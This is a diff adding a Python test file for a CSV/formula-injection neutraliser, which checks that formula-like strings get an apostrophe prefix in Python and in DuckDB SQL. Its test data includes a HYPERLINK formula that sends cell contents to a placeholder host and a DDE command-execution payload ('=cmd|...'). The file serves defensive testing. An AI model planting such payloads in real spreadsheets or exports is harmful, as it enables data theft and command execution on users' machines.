@@ -1,0 +1,53 @@
+"""What a spreadsheet would run becomes text."""
+
+from __future__ import annotations
+
+import duckdb
+import pytest
+
+from auditor.analysis.formula import neutral, neutral_sql
+
+# The starts that OWASP's "CSV Injection" names, and blanks before them.
+FORMULAS = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "\x00=1",
+    "\u00a0=1",
+    "\u3000=1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20a",
+    "\tplain",
+    '=HYPERLINK("http://example.com/?"&A1,"here")',
+    "=cmd|'/C calc'!A0",
+]
+TEXTS = ["", "a", "1.0", "sha256:00", "a=1", "team/app", "'=1", "_-", "\u2014", "[=1]"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_gets_an_apostrophe(text: str) -> None:
+    assert neutral(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", TEXTS)
+def test_any_other_text_stays_as_it_is(text: str) -> None:
+    assert neutral(text) == text
+
+
+def test_sql_says_the_same() -> None:
+    with duckdb.connect() as connection:
+        for text in [*FORMULAS, *TEXTS]:
+            found = connection.execute(
+                f"SELECT {neutral_sql('t')} FROM (SELECT ?::VARCHAR AS t)",  # noqa: S608
+                [text],
+            ).fetchall()
+            assert found == [(neutral(text),)]
+        null = connection.execute(f"SELECT {neutral_sql('NULL::VARCHAR')}").fetchall()
+        assert null == [(None,)]
